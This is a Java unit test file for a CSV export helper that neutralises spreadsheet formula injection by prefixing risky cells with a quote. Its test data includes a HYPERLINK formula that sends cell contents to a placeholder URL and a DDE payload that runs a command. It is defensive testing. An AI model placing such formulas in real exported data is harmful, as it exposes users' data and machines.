package dev.kip.exchange.read;

import static org.assertj.core.api.Assertions.assertThat;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

class CsvCellsTest {

    @Test
    void formulaLikeTextGetsALeadingQuote() {
        assertThat(CsvCells.neutralise("=HYPERLINK(\"http://x\"&A2, \"see\")")).isEqualTo("'=HYPERLINK(\"http://x\"&A2, \"see\")");
        assertThat(CsvCells.neutralise("+cmd|' /C calc'!A0")).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(CsvCells.neutralise("@SUM(1+1)")).isEqualTo("'@SUM(1+1)");
        assertThat(CsvCells.neutralise("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvCells.neutralise("\tx")).isEqualTo("'\tx");
        assertThat(CsvCells.neutralise("\rx")).isEqualTo("'\rx");
    }

    @Test
    void ordinaryTextIsLeftAlone() {
        assertThat(CsvCells.neutralise("Bench Press")).isEqualTo("Bench Press");
        assertThat(CsvCells.neutralise("slept well; 2 = fine")).isEqualTo("slept well; 2 = fine");
        assertThat(CsvCells.neutralise("")).isEmpty();
        assertThat(CsvCells.neutralise(null)).isNull();
        assertThat(CsvCells.restore("'quoted on purpose")).isEqualTo("'quoted on purpose");
    }

    @Test
    void textThatLooksNeutralisedAlreadyGetsOneMoreQuote() {
        assertThat(CsvCells.neutralise("'=x")).isEqualTo("''=x");
        assertThat(CsvCells.restore("''=x")).isEqualTo("'=x");
    }

    @Property(tries = 500)
    void restoreUndoesNeutralise(@ForAll("cells") String text) {
        assertThat(CsvCells.restore(CsvCells.neutralise(text))).isEqualTo(text);
    }

    @Provide
    Arbitrary<String> cells() {
        return Arbitraries.strings().withChars('\'', '=', '+', '-', '@', '\t', '\r', 'a', '1', ' ').ofMaxLength(6);
    }
}
